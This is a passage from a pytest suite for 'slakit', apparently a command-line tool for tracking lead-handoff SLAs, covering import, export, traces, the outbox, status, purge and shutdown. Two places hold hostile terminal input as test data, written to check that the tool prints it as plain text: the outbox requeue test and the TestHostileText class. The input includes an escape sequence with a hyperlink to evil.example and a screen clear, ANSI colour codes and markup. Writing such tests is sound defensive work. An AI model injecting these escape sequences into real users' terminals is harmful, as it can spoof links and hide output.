        """--map renames CSV columns to handoff fields."""
        (project / "crm.csv").write_text("Lead ID,Rep,Created\nM1,alice,2026-11-23T14:00:00Z\n")
        result = run(
            "import",
            "crm.csv",
            "--policy",
            "speed-to-lead",
            "--map",
            "Lead ID=id",
            "--map",
            "Rep=owner",
            "--map",
            "Created=started_at",
        )
        assert result.exit_code == 0, result.output
        assert json.loads(run("show", "M1", "--json").output)["handoff"]["owner"] == "alice"

    def test_export_round_trips(self, project: Path) -> None:
        """export writes every handoff as JSON lines or CSV."""
        (project / "leads.csv").write_text(CSV_OK)
        run("import", "leads.csv", "--policy", "speed-to-lead")
        lines = run("export").output.splitlines()
        assert [json.loads(ln)["id"] for ln in lines] == ["A1", "A2", "A3"]
        csv_out = run("export", "--format", "csv", "--since", "2026-11-23T14:30:00Z").output
        assert csv_out.splitlines()[0].startswith("id,policy,started_at")
        assert len(csv_out.splitlines()) == 3


class TestTraces:
    def _two_handoffs(self) -> None:
        for hid, owner in (("L-1", "alice"), ("L-2", "bob")):
            args = ("start", hid, "--policy", "speed-to-lead", "--owner", owner)
            assert run(*args, "--started-at", T0).exit_code == 0
        assert run("check", "--now", "2026-11-23T14:30:00Z").exit_code == 0

    def test_prints_the_stored_lines_like_the_jsonl_sink(self, project: Path) -> None:
        """`slakit traces` prints the store's lines in the ops log's shape, filtered."""
        self._two_handoffs()
        logged = (project / "ops-log.jsonl").read_text().splitlines()
        assert run("traces").output.splitlines() == logged
        one = [json.loads(ln) for ln in run("traces", "--handoff", "L-2").output.splitlines()]
        assert {t["handoff_id"] for t in one} == {"L-2"}
        assert [t["rule"] for t in one] == ["start", "step:1x"]
        # Steps are traced at the check's --now; starts at the real clock, days later.
        steps = run("traces", "--until", "2026-11-23T15:00:00Z").output.splitlines()
        assert [json.loads(ln)["rule"] for ln in steps] == ["step:1x", "step:1x"]
        out = project / "lines.jsonl"
        assert run("traces", "--since", "2026-11-23T15:00:00Z", "-o", str(out)).exit_code == 0
        assert {json.loads(ln)["rule"] for ln in out.read_text().splitlines()} == {"start"}

    def test_emit_refills_a_sink_that_lost_lines(self, project: Path) -> None:
        """--emit hands a window of stored lines to the configured sinks again."""
        self._two_handoffs()
        log = project / "ops-log.jsonl"
        whole = log.read_text().splitlines()
        kept = [ln for ln in whole if json.loads(ln)["rule"] == "start"]
        log.write_text("".join(ln + "\n" for ln in kept))  # the step lines never arrived
        result = run("traces", "--until", "2026-11-23T15:00:00Z", "--emit")
        assert result.exit_code == 0, result.output
        assert "emitted 2 trace line(s) to jsonl" in result.stderr
        assert log.read_text().splitlines() == whole

    def test_bad_input_is_one_line_and_writes_nothing(self, project: Path) -> None:
        """Unknown handoff, reversed window, --emit with -o: one-line errors, exit 2."""
        self._two_handoffs()
        before = (project / "ops-log.jsonl").read_text()
        ghost = ["traces", "--handoff", "ghost"]
        assert "'ghost'" in one_line_error(CliRunner().invoke(cli, ghost))
        reversed_ = ["traces", "--since", "2026-11-24T00:00:00Z", "--until", "2026-11-23T00:00:00Z"]
        assert "--until" in one_line_error(CliRunner().invoke(cli, reversed_))
        both = ["traces", "--emit", "-o", "x.jsonl"]
        assert "--emit" in one_line_error(CliRunner().invoke(cli, both))
        naive = ["traces", "--since", "2026-11-23T14:30:00"]
        assert one_line_error(CliRunner().invoke(cli, naive))
        assert (project / "ops-log.jsonl").read_text() == before
        assert not (project / "x.jsonl").exists()


class TestOutbox:
    def _dead_letters(self, project: Path) -> None:
        """Two alerts dead-lettered: the notifier they name was renamed before delivery."""
        config = project / "slakit.toml"
        text = config.read_text()
        config.write_text(text.replace('adapter = "console"', 'adapter = "console"\nname = "ops"'))
        for hid, owner in (("L-1", "alice"), ("L-2", "bob")):
            args = ("start", hid, "--policy", "speed-to-lead", "--owner", owner)
            assert run(*args, "--started-at", T0).exit_code == 0
        assert run("check", "--now", "2026-11-23T14:30:00Z").exit_code == 0
        config.write_text(config.read_text().replace('name = "ops"', 'name = "desk"'))
        assert "2 dead-lettered" in run("deliver", "--now", "2026-11-23T14:31:00Z").output
        config.write_text(config.read_text().replace('name = "desk"', 'name = "ops"'))

    def test_lists_rows_with_state_and_error(self, project: Path) -> None:
        """`slakit outbox` shows each row's state, attempts and last error; --json too."""
        self._dead_letters(project)
        rows = json.loads(run("outbox", "--json").output)
        assert [(r["idempotency_key"], r["state"], r["attempts"]) for r in rows] == [
            ("L-1:0:notify:owner:alice", "dead", 1),
            ("L-2:0:notify:owner:bob", "dead", 1),
        ]
        assert rows[0]["last_error"] == "no notifier named 'ops' is configured"
        assert json.loads(run("outbox", "--state", "sent", "--json").output) == []
        assert len(json.loads(run("outbox", "--handoff", "L-2", "--json").output)) == 1
        assert json.loads(run("outbox", "--notifier", "desk", "--json").output) == []
        table = run("outbox", "--state", "dead").output
        assert "L-1:0:notify:owner:alice" in table
        assert "2 row(s): 0 pending, 0 sent, 2 dead" in table

    def test_requeue_shows_a_receivers_error_without_obeying_it(self, project: Path) -> None:
        """A dead row's error is a receiver's answer: an escape sequence in it (a screen
        clear, a terminal hyperlink) is written out, not sent to the terminal."""
        self._dead_letters(project)
        evil = "\x1b]8;;http://evil.example/\x07CLICK\x1b]8;;\x07\x1b[2J"
        with sqlite3.connect(project / "slakit.db") as con:
            con.execute("UPDATE outbox SET last_error = ?", (evil,))
        out = run("requeue", "--all", "--dry-run").output
        assert "\x1b" not in out
        assert "\x07" not in out
        assert "\\x1b]8;;http://evil.example/\\x07CLICK" in out

    def test_requeue_sends_dead_letters_again(self, project: Path) -> None:
        """Requeued rows go out on the next deliver, each traced with who requeued it."""
        self._dead_letters(project)
        dry = run("requeue", "--all", "--dry-run", "--json")
        assert [r["idempotency_key"] for r in json.loads(dry.output)["requeued"]] == [
            "L-1:0:notify:owner:alice",
            "L-2:0:notify:owner:bob",
        ]
        assert count_rows(project, "outbox WHERE state = 'dead'") == 2
        one = run(
            "requeue",
            "L-1:0:notify:owner:alice",
            "--by",
            "ops-lead",
            "--now",
            "2026-11-23T14:35:00Z",
        )
        assert one.exit_code == 0, one.output
        assert "requeued 1 dead notification(s)" in one.output
        sent = run("deliver", "--now", "2026-11-23T14:40:00Z")
        assert "1 sent, 0 to retry, 0 dead-lettered" in sent.output
        assert "alice" in sent.output
        assert "bob" not in sent.output
        lines = [json.loads(ln) for ln in run("traces", "--handoff", "L-1").output.splitlines()]
        assert [(t["actor"], t["outcome"]) for t in lines[-3:]] == [
            ("notifier:ops", "dead"),
            ("ops-lead", "requeued"),
            ("notifier:ops", "sent"),
        ]
        rest = json.loads(run("requeue", "--all", "--json").output)["requeued"]
        assert [r["recipient"] for r in rest] == ["bob"]
        assert "nothing requeued" in run("requeue", "--all").output

    def test_open_only_skips_alerts_made_moot(self, project: Path) -> None:
        """--open-only leaves dead alerts about handoffs answered since."""
        self._dead_letters(project)
        assert run("respond", "L-1", "--at", "2026-11-23T14:33:00Z").exit_code == 0
        out = json.loads(run("requeue", "--all", "--open-only", "--json").output)["requeued"]
        assert [r["handoff_id"] for r in out] == ["L-2"]
        assert count_rows(project, "outbox WHERE state = 'dead'") == 1

    def test_bad_input_is_one_line_and_requeues_nothing(self, project: Path) -> None:
        """No selection, unknown key or handoff, naive --now: one-line errors, exit 2."""
        self._dead_letters(project)
        assert "--all" in one_line_error(CliRunner().invoke(cli, ["requeue"]))
        assert "'nope'" in one_line_error(CliRunner().invoke(cli, ["requeue", "nope"]))
        ghost = ["requeue", "--handoff", "ghost"]
        assert "'ghost'" in one_line_error(CliRunner().invoke(cli, ghost))
        naive = ["requeue", "--all", "--now", "2026-11-23T14:30:00"]
        assert one_line_error(CliRunner().invoke(cli, naive))
        assert "'ghost'" in one_line_error(
            CliRunner().invoke(cli, ["outbox", "--handoff", "ghost"])
        )
        bad_state = CliRunner().invoke(cli, ["outbox", "--state", "lost"])
        assert bad_state.exit_code == 2
        assert count_rows(project, "outbox WHERE state = 'dead'") == 2
        assert count_rows(project, "traces WHERE outcome = 'requeued'") == 0


class TestStatus:
    def test_quiet_store_is_ok(self, project: Path) -> None:
        """Nothing waiting: exit 0, the next due time, `ok`."""
        args = ("start", "L-1", "--policy", "speed-to-lead", "--owner", "alice")
        assert run(*args, "--started-at", T0).exit_code == 0
        result = run("status", "--now", "2026-11-23T14:10:00Z")
        assert result.exit_code == 0, result.output
        assert result.output.splitlines() == [
            "handoffs  1 stored, 1 timer(s) running",
            "steps     0 due; next at 2026-11-23T14:30:00+00:00 (in 20m 0s)",
            "outbox    0 pending, 0 due; 0 dead",
            "ok",
        ]

    def test_a_stalled_worker_fails_the_check(self, project: Path) -> None:
        """Steps or notifications waiting longer than --max-lag: exit 1 with the reason."""
        args = ("start", "L-1", "--policy", "speed-to-lead", "--owner", "alice")
        assert run(*args, "--started-at", T0).exit_code == 0
        late = run("status", "--now", "2026-11-23T14:36:00Z")
        assert late.exit_code == 1
        assert "problem: 1 step(s) due, the oldest for 6m 0s" in late.output
        assert run("status", "--now", "2026-11-23T14:36:00Z", "--max-lag", "600").exit_code == 0
        assert run("check", "--now", "2026-11-23T14:31:00Z").exit_code == 0
        data = json.loads(run("status", "--now", "2026-11-23T14:40:00Z", "--json").output)
        assert (data["due"], data["outbox_due"], data["delivery_lag_seconds"]) == (0, 1, 540.0)
        assert data["ok"] is False
        assert data["problems"] == [
            "1 notification(s) due, the oldest for 9m 0s: is `slakit run` running?"
        ]
        assert run("deliver", "--now", "2026-11-23T14:40:00Z").exit_code == 0
        assert run("status", "--now", "2026-11-23T14:41:00Z").exit_code == 0

    def test_dead_letters_fail_only_past_max_dead(self, project: Path) -> None:
        """Dead letters are counted; they fail the check when --max-dead is passed."""
        TestOutbox()._dead_letters(project)
        now = ("--now", "2026-11-23T14:32:00Z")
        assert "2 dead" in run("status", *now).output
        assert run("status", *now, "--max-dead", "2").exit_code == 0
        over = run("status", *now, "--max-dead", "1")
        assert over.exit_code == 1
        assert "problem: 2 dead-lettered notification(s), more than 1" in over.output

    def test_bad_input_is_one_line(self, project: Path) -> None:
        """A negative lag or a naive --now: one-line errors, exit 2."""
        assert "--max-lag" in one_line_error(CliRunner().invoke(cli, ["status", "--max-lag", "-1"]))
        naive = ["status", "--now", "2026-11-23T14:30:00"]
        assert one_line_error(CliRunner().invoke(cli, naive))


class TestMissingDatabase:
    """A config whose SQLite file is not there: commands on stored records say so."""

    @pytest.fixture
    def bare(self, project: Path) -> Path:
        for name in ("slakit.db", "slakit.db-wal", "slakit.db-shm"):
            (project / name).unlink(missing_ok=True)
        return project

    @pytest.mark.parametrize(
        "args",
        [
            ("status",),
            ("status", "--json"),
            ("show", "L-1"),
            ("respond", "L-1"),
            ("cancel", "L-1"),
            ("tag", "L-1", "late form"),
            ("outbox",),
            ("requeue", "--all"),
            ("purge", "--before", T0, "--yes"),
            ("traces",),
            ("export", "--output", "out.jsonl"),
            ("report",),
            ("review",),
            ("simulate", "--policy", "speed-to-lead"),
        ],
    )
    def test_commands_on_records_refuse_and_make_no_file(
        self, bare: Path, args: tuple[str, ...]
    ) -> None:
        """A mistyped path or a config read from elsewhere is an error, not an empty report."""
        line = one_line_error(CliRunner().invoke(cli, list(args)))
        assert f"store.path {str(bare / 'slakit.db')!r}: no database there" in line
        assert "slakit init" in line
        assert sorted(p.name for p in bare.iterdir()) == ["slakit.toml"]

    def test_config_checks_need_no_database(self, bare: Path) -> None:
        """preflight and runbook read only the config, and make no file."""
        assert run("preflight").output == "ok: 2 policies pass preflight\n"
        assert "speed-to-lead" in run("runbook").output
        assert sorted(p.name for p in bare.iterdir()) == ["slakit.toml"]

    def test_writers_create_it(self, bare: Path) -> None:
        """start (like import, check and run) makes the database on first use."""
        args = ("start", "L-1", "--policy", "speed-to-lead", "--owner", "alice")
        assert run(*args, "--started-at", T0).exit_code == 0
        assert count_rows(bare) == 1
        assert run("status", "--now", T0).exit_code == 0


class TestPurge:
    def _history(self) -> None:
        """L-1 answered, L-2 cancelled, L-3 still open; every alert sent."""
        for i in (1, 2, 3):
            args = ("start", f"L-{i}", "--policy", "speed-to-lead", "--owner", "al")
            assert run(*args, "--started-at", T0).exit_code == 0
        assert run("check", "--now", "2026-11-23T14:31:00Z").exit_code == 0
        assert run("deliver", "--now", "2026-11-23T14:31:00Z").exit_code == 0
        assert run("respond", "L-1", "--at", "2026-11-23T14:40:00Z").exit_code == 0
        assert run("cancel", "L-2", "--at", "2026-11-23T14:50:00Z").exit_code == 0

    def test_purges_what_ended_and_keeps_the_rest(self, project: Path) -> None:
        """Ended handoffs go with all their rows; a dry run and a refused prompt change nothing."""
        self._history()
        before = {t: count_rows(project, t) for t in ("handoffs", "outbox", "traces")}
        cutoff = ("--before", "2026-11-24T00:00:00Z")
        dry = run("purge", *cutoff, "--dry-run")
        assert dry.output.startswith("would purge 2 handoff(s) that ended before 2026-11-24")
        no_prompt = CliRunner().invoke(cli, ["purge", *cutoff])  # stdin is not a terminal
        assert "--yes" in one_line_error(no_prompt)
        assert {t: count_rows(project, t) for t in before} == before
        done = json.loads(run("purge", *cutoff, "--yes", "--json").output)
        assert (done["handoffs"], done["outbox"]) == (2, 2)
        assert count_rows(project) == 1
        assert count_rows(project, "outbox") == before["outbox"] - 2
        assert count_rows(project, "traces") == before["traces"] - done["traces"]
        assert count_rows(project, "traces WHERE handoff_id != 'L-3'") == 0
        again = run("purge", *cutoff, "--yes")
        assert again.output.startswith("purged 0 handoff(s)")

    def test_bad_input_is_one_line_and_deletes_nothing(self, project: Path) -> None:
        """No --before, a naive or future --before: one-line errors, exit 2."""
        self._history()
        assert "--before" in one_line_error(CliRunner().invoke(cli, ["purge", "--yes"]))
        naive = ["purge", "--before", "2026-11-24T00:00:00", "--yes"]
        assert one_line_error(CliRunner().invoke(cli, naive))
        future = ["purge", "--before", "2999-01-01T00:00:00Z", "--yes"]
        assert "after now" in one_line_error(CliRunner().invoke(cli, future))
        assert count_rows(project) == 3


class TestDemo:
    def test_demo_runs_a_week_and_reports(self, tmp_path: Path) -> None:
        """The demo simulates a week: alerts, reassignments, breaches and the hit rate."""
        keep = tmp_path / "demo"
        result = run("demo", "--keep", str(keep), "--json")
        assert result.exit_code == 0, result.output
        data = json.loads(result.output)
        assert data["leads"] == 120
        assert data["alerts"] > 0
        assert data["reassignments"] > 0
        assert data["breaches"] == data["reassignments"]
        total = data["hit_rate"]["total"]
        assert 0 < total["wall"]["rate"] < total["business"]["rate"] < 1
        assert (keep / "slakit.db").is_file()
        assert (keep / "ops-log.jsonl").stat().st_size > 0
        report = run(
            "report",
            "--config",
            str(keep / "slakit.toml"),
            "--json",
            "--since",
            "2026-11-23T05:00:00Z",
            "--until",
            "2026-11-30T05:00:00Z",
            "--now",
            "2026-11-30T05:00:00Z",
        )
        assert report.exit_code == 0, report.output
        assert json.loads(report.output)["total"]["rate"] == total["business"]["rate"]
        # The review cuts the demo's week where the demo's calendar does: in New York.
        review = run("review", "--config", str(keep / "slakit.toml"), "--week", "2026-W48")
        assert review.exit_code == 0, review.output
        assert "2026-11-23 to 2026-11-29 (America/New_York)" in review.output
        sheet = json.loads(
            run(
                "review", "--config", str(keep / "slakit.toml"), "--week", "2026-W48", "--json"
            ).output
        )
        assert sheet["start"] == "2026-11-23T05:00:00+00:00"  # midnight in New York
        week = sheet["hit_rate"]["this_week"]
        assert week["wall"]["evaluated"] + week["wall"]["pending"] + week["excluded"] == 120

    def test_demo_is_deterministic_per_seed(self) -> None:
        """The same seed gives the same week; another seed another."""
        a = json.loads(run("demo", "--json", "--seed", "3").output)
        b = json.loads(run("demo", "--json", "--seed", "3").output)
        c = json.loads(run("demo", "--json", "--seed", "4").output)
        keys = ("alerts", "reassignments", "breaches", "cancelled")
        assert [a[k] for k in keys] == [b[k] for k in keys]
        assert [a[k] for k in keys] != [c[k] for k in keys]

    def test_demo_prints_notifications_and_summary(self) -> None:
        """Without --json the demo shows notifications as they fire, then the table."""
        out = run("demo", "--leads", "30").output
        assert "!! @" in out
        assert "-> @" in out
        assert "business-hours adjusted" in out


def _wait_for(path: Path, needle: str, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if path.exists() and needle in path.read_text():
            return
        time.sleep(0.05)
    raise AssertionError(f"{needle!r} never appeared in {path}: {path.read_text()!r}")


@pytest.fixture
def run_proc(project: Path) -> Iterator[tuple[list[subprocess.Popen[bytes]], Path]]:
    procs: list[subprocess.Popen[bytes]] = []
    yield procs, project
    for p in procs:
        if p.poll() is None:
            p.kill()
            p.wait()


@pytest.mark.slow
class TestRunProcess:
    def _start(self, procs: list[subprocess.Popen[bytes]], project: Path) -> Path:
        log = project / "run.log"
        fh = log.open("wb")
        env = {**os.environ, "PYTHONUNBUFFERED": "1"}
        procs.append(
            subprocess.Popen(
                [sys.executable, "-m", "slakit.cli", "run", "--interval", "30"],
                cwd=project,
                stdout=fh,
                stderr=subprocess.STDOUT,
                env=env,
            )
        )
        return log

    @pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT, signal.SIGHUP])
    def test_a_stop_signal_while_idle_stops_within_a_second(
        self, run_proc: tuple[list[subprocess.Popen[bytes]], Path], sig: signal.Signals
    ) -> None:
        """An idle `slakit run` exits 0 within one second of SIGTERM, SIGINT (Ctrl-C) or
        SIGHUP (its terminal closed), saying which one it got."""
        procs, project = run_proc
        log = self._start(procs, project)
        _wait_for(log, "tick:")
        t = time.monotonic()
        procs[0].send_signal(sig)
        assert procs[0].wait(timeout=5) == 0
        assert time.monotonic() - t < 1.0
        text = log.read_text()
        assert f"received {sig.name}; stopping" in text
        assert "stopped after" in text

    def _lock(self, project: Path, busy_ms: int) -> sqlite3.Connection:
        """Another process's write lock on the database, and a short busy_timeout."""
        config = project / "slakit.toml"
        text = config.read_text()
        config.write_text(text.replace("[store]\n", f"[store]\nbusy_timeout = {busy_ms}\n", 1))
        holder = sqlite3.connect(project / "slakit.db", isolation_level=None)
        holder.execute("BEGIN IMMEDIATE")
        return holder

    def test_sigterm_while_the_database_is_locked_stops_soon(
        self, run_proc: tuple[list[subprocess.Popen[bytes]], Path]
    ) -> None:
        """Waiting for another process's lock is not a transaction in flight: SIGTERM ends
        the wait after the statement's busy_timeout, not after every retry."""
        procs, project = run_proc
        holder = self._lock(project, busy_ms=1000)
        try:
            log = self._start(procs, project)
            time.sleep(1.5)
            t = time.monotonic()
            procs[0].send_signal(signal.SIGTERM)
            assert procs[0].wait(timeout=15) == 0, log.read_text()
            assert time.monotonic() - t < 3.0, log.read_text()
        finally:
            holder.execute("ROLLBACK")
            holder.close()

    def test_a_database_locked_at_start_is_waited_out(
        self, run_proc: tuple[list[subprocess.Popen[bytes]], Path]
    ) -> None:
        """A lock held past every retry at start-up is logged and retried, as a store outage
        later on is: the loop goes on once the lock is released."""
        procs, project = run_proc
        holder = self._lock(project, busy_ms=100)
        try:
            log = self._start(procs, project)
            _wait_for(log, "tick failed (1 in a row)")
        finally:
            holder.execute("ROLLBACK")
            holder.close()
        _wait_for(log, "the store answers again")
        _wait_for(log, "tick:")
        assert procs[0].poll() is None
        procs[0].send_signal(signal.SIGTERM)
        assert procs[0].wait(timeout=5) == 0

    def test_sigterm_while_busy_finishes_the_transaction_in_flight(
        self, run_proc: tuple[list[subprocess.Popen[bytes]], Path]
    ) -> None:
        """A busy `slakit run` stops between transactions: every step is whole."""
        procs, project = run_proc
        engine = slakit.Engine.from_config(project / "slakit.toml")
        engine.start_many(
            {
                "id": f"B{i}",
                "policy": "speed-to-lead",
                "owner": "a",
                "started_at": slakit.ManualClock().now().replace(year=2025),
            }
            for i in range(6000)
        )
        engine.close()
        log = self._start(procs, project)
        _wait_for(log, "slakit run: worker")
        time.sleep(0.3)
        procs[0].send_signal(signal.SIGTERM)
        assert procs[0].wait(timeout=30) == 0
        with sqlite3.connect(project / "slakit.db") as con:
            stages = dict(con.execute("SELECT id, stage FROM handoffs").fetchall())
            esc = con.execute("SELECT handoff_id, count(*) FROM escalations GROUP BY 1").fetchall()
            outbox = con.execute("SELECT count(*) FROM outbox").fetchone()[0]
        assert esc, "nothing was applied before the signal"
        for hid, n in esc:
            assert stages[hid] == n
        # Every applied 1x step wrote its notification; 2x steps wrote two.
        applied = sum(n for _, n in esc)
        assert outbox >= applied


class TestImportSettings:
    def test_saved_mapping_in_config(self, project: Path) -> None:
        """An [import] table keeps the column map, policy and zone for repeated imports."""
        config = project / "slakit.toml"
        config.write_text(
            config.read_text()
            + '\n[import]\npolicy = "speed-to-lead"\ntz = "America/New_York"\n'
            + '[import.map]\n"Lead ID" = "id"\nRep = "owner"\nCreated = "started_at"\n'
        )
        (project / "crm.csv").write_text("Lead ID,Rep,Created\nS1,alice,2026-11-23T09:00:00\n")
        result = run("import", "crm.csv")
        assert result.exit_code == 0, result.output
        h = json.loads(run("show", "S1", "--json").output)["handoff"]
        assert h["owner"] == "alice"
        assert h["started_at"] == "2026-11-23T14:00:00+00:00"

    def test_unknown_import_key(self, project: Path) -> None:
        """A typo in [import] is a one-line config error."""
        config = project / "slakit.toml"
        config.write_text(config.read_text() + '\n[import]\nmapping = { a = "id" }\n')
        (project / "x.csv").write_text("id\nX\n")
        line = one_line_error(CliRunner().invoke(cli, ["import", "x.csv"]))
        assert "'mapping'" in line


def _walk(group: click.Group, prefix: str = "") -> Iterator[tuple[str, click.Command]]:
    for name, command in sorted(group.commands.items()):
        yield f"{prefix}{name}", command
        if isinstance(command, click.Group):
            yield from _walk(command, f"{prefix}{name} ")


class TestUnixBehaviour:
    """The command line as a shell script or a pipe sees it."""

    def test_every_option_has_help(self) -> None:
        missing = [
            f"{name} {param.opts[0]}"
            for name, command in _walk(cli)
            for param in command.params
            if isinstance(param, click.Option) and not param.help and param.name != "help"
        ]
        assert missing == []

    def test_deliver_json_keeps_the_console_notifier_off_stdout(self, project: Path) -> None:
        run("start", "L-1", "--policy", "speed-to-lead", "--owner", "alice", "--started-at", T0)
        run("check", "--now", "2026-11-23T15:00:00Z")
        result = run("deliver", "--now", "2026-11-23T15:00:00Z", "--json")
        sent = json.loads(result.stdout)["sent"]
        assert sent > 0
        assert result.stderr.count("[slakit] → ") == sent

    @pytest.mark.parametrize(
        ("args", "needle"),
        [
            (["review", "--weeks", "1000000"], "--weeks"),
            (["review", "--week", "9999-W52"], "'9999-W52' is out of range"),
            (["demo", "--week", "9999-W52", "--quiet"], "'9999-W52'"),
            (["run", "--interval", "1e10"], "--interval"),
        ],
    )
    def test_out_of_range_dates_and_numbers_are_usage_errors(
        self, project: Path, args: list[str], needle: str
    ) -> None:
        assert needle in one_line_error(CliRunner().invoke(cli, args))

    def test_a_file_that_is_not_utf8_names_its_line(self, project: Path) -> None:
        rows = "".join(f"A{i},bob,{T0}\n" for i in range(50))
        (project / "latin1.csv").write_bytes(
            f"id,owner,started_at\n{rows}".encode() + f"L1,José,{T0}\n".encode("latin-1")
        )
        line = one_line_error(
            CliRunner().invoke(cli, ["import", "latin1.csv", "--policy", "speed-to-lead"])
        )
        assert "latin1.csv is not UTF-8 text (byte 0xe9 on line 52)" in line
        assert count_rows(project) == 0

    def test_import_caps_the_row_errors_and_json_lists_them_all(self, project: Path) -> None:
        rows = "".join(f"N{i},bob,2026-11-23T09:00:00\n" for i in range(30))
        (project / "naive.csv").write_text(f"id,owner,started_at\n{rows}")
        args = ["import", "naive.csv", "--policy", "speed-to-lead"]
        result = CliRunner().invoke(cli, args)
        assert result.exit_code == 2
        lines = result.stderr.splitlines()
        assert len(lines) == 22  # 20 rows, the rest counted, the summary
        assert "has no UTC offset; add one (e.g. -05:00 or Z) or pass --tz ZONE" in lines[0]
        assert lines[20] == "Error: … and 10 more invalid row(s) (--json lists every one)"
        data = json.loads(CliRunner().invoke(cli, [*args, "--json"]).stdout)
        assert (data["imported"], data["invalid"], len(data["errors"])) == (0, 30, 30)
        assert count_rows(project) == 0

    def test_an_interrupted_import_says_what_it_kept(
        self, project: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        rows = "".join(f"A{i},bob,{T0}\n" for i in range(30))
        (project / "many.csv").write_text(f"id,owner,started_at\n{rows}")
        calls = []
        real = slakit.Engine.start_prepared

        def interrupted(self: slakit.Engine, prepared: Any) -> int:
            calls.append(1)
            if len(calls) == 3:
                raise KeyboardInterrupt
            return real(self, prepared)

        monkeypatch.setattr(slakit.Engine, "start_prepared", interrupted)
        result = CliRunner().invoke(
            cli, ["import", "many.csv", "--policy", "speed-to-lead", "--batch-size", "10"]
        )
        assert result.exit_code == 130
        assert "Interrupted: 20 of 30 handoff(s) were imported" in result.stderr
        assert count_rows(project) == 20
        monkeypatch.setattr(slakit.Engine, "start_prepared", real)
        again = run("import", "many.csv", "--policy", "speed-to-lead")
        assert "imported 10 handoff(s) from many.csv; 20 already present" in again.output

    def test_an_interrupt_while_the_store_closes_says_nothing_is_missing(
        self, project: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Ctrl-C after the last batch (the store's close can take a while): exit 130,
        and the one line says every handoff was imported."""
        rows = "".join(f"A{i},bob,{T0}\n" for i in range(30))
        (project / "many.csv").write_text(f"id,owner,started_at\n{rows}")
        from slakit.adapters.sqlite import SQLiteStore

        real = SQLiteStore.close

        def interrupted(self: SQLiteStore) -> None:
            real(self)
            raise KeyboardInterrupt

        monkeypatch.setattr(SQLiteStore, "close", interrupted)
        result = CliRunner().invoke(cli, ["import", "many.csv", "--policy", "speed-to-lead"])
        monkeypatch.setattr(SQLiteStore, "close", real)
        assert result.exit_code == 130
        assert "Interrupted after the import: all 30 handoff(s) were imported." in result.stderr
        assert count_rows(project) == 30

    def test_dash_is_stdout_and_a_failed_export_leaves_the_file_alone(
        self, project: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        run("start", "L-1", "--policy", "speed-to-lead", "--owner", "alice", "--started-at", T0)
        assert json.loads(run("export", "-o", "-").stdout)["id"] == "L-1"
        assert not (project / "-").exists()
        target = project / "out.jsonl"
        target.write_text("yesterday's export\n")
        from slakit.adapters.sqlite import SQLiteStore

        real = SQLiteStore.iter_handoffs

        def broken(self: SQLiteStore, **kw: Any) -> Iterator[slakit.Handoff]:
            yield from real(self, **kw)
            raise slakit.errors.StoreError("disk I/O error", field="path", value="x")

        monkeypatch.setattr(SQLiteStore, "iter_handoffs", broken)
        result = CliRunner().invoke(cli, ["export", "-o", str(target)])
        assert result.exit_code == 1
        assert target.read_text() == "yesterday's export\n"
        assert sorted(p.name for p in project.iterdir() if p.name.startswith(".out")) == []
        monkeypatch.setattr(SQLiteStore, "iter_handoffs", real)
        assert run("export", "-o", str(target)).exit_code == 0
        assert json.loads(target.read_text())["id"] == "L-1"

    def test_an_output_path_in_no_folder_is_named_as_given(self, project: Path) -> None:
        """The error names the path asked for, not the temporary file beside it."""
        run("start", "L-1", "--policy", "speed-to-lead", "--owner", "alice", "--started-at", T0)
        for args in (["export", "--format", "csv", "-o"], ["review", "--html"]):
            target = str(project / "missing" / "out.txt")
            err = one_line_error(CliRunner().invoke(cli, [*args, target]), code=1)
            assert f"'{target}': No such file or directory" in err
            assert ".part" not in err

    def test_show_into_a_closed_pipe_exits_141_quietly(self, project: Path) -> None:
        run("start", "L-1", "--policy", "speed-to-lead", "--owner", "alice", "--started-at", T0)
        proc = subprocess.Popen(
            [sys.executable, "-m", "slakit", "show", "L-1"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            cwd=project,
        )
        assert proc.stdout is not None
        assert proc.stderr is not None
        proc.stdout.close()
        assert proc.wait(timeout=60) == 141
        assert proc.stderr.read() == b""

    def test_a_failing_trace_sink_is_one_line_not_a_traceback(self, project: Path) -> None:
        (project / "sinkdir").mkdir()
        config = project / "slakit.toml"
        config.write_text(config.read_text().replace('path = "ops-log.jsonl"', 'path = "sinkdir"'))
        proc = subprocess.run(
            [sys.executable, "-m", "slakit", "start", "L-1", "--policy", "speed-to-lead"],
            capture_output=True,
            text=True,
            cwd=project,
            timeout=60,
        )
        assert proc.returncode == 0
        assert "Traceback" not in proc.stderr
        assert "trace sink 'jsonl' failed (IsADirectoryError" in proc.stderr

    @pytest.mark.parametrize(
        ("config", "needle"),
        [("/dev/null", "is not a regular file"), (".", "'.' is a directory")],
    )
    def test_a_config_that_is_not_a_file_says_what_it_is(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, config: str, needle: str
    ) -> None:
        monkeypatch.chdir(tmp_path)
        monkeypatch.setenv("SLAKIT_CONFIG", config)
        assert needle in one_line_error(CliRunner().invoke(cli, ["status"]))


class TestHostileText:
    """Record text is printed as it is: no markup, no terminal control."""

    def test_markup_and_escapes_in_records_print_as_text(self, project: Path) -> None:
        args = ["start", "own1", "--policy", "speed-to-lead", "--owner", "[/]"]
        assert run(*args, "--attr", "seg=[/nope]", "--attr", "note=x\x1b[31mred").exit_code == 0
        shown = run("show", "own1")
        assert shown.exit_code == 0
        assert " [/] " in shown.output
        report = run("report", "--by", "attributes.seg,attributes.note")
        assert report.exit_code == 0
        assert "[/nope]" in report.output
        assert "x\\x1b[31mred" in report.output
        assert "\x1b" not in report.output

    def test_oversized_fields_and_deep_cells_are_errors_not_tracebacks(self, project: Path) -> None:
        (project / "big.csv").write_text(f"id,owner,started_at\nB1,{'x' * 200_000},{T0}\n")
        line = one_line_error(
            CliRunner().invoke(cli, ["import", "big.csv", "--policy", "speed-to-lead"])
        )
        assert "big.csv:2: cannot read the CSV: field larger than field limit" in line
        deep = "[" * 2000 + "]" * 2000
        (project / "deep.csv").write_text(f'id,owner,started_at,attributes\nD1,bob,{T0},"{deep}"\n')
        result = CliRunner().invoke(cli, ["import", "deep.csv", "--policy", "speed-to-lead"])
        assert result.exit_code == 2
        assert "deep.csv:2: attributes must be a JSON object" in result.stderr
        assert "Traceback" not in result.output

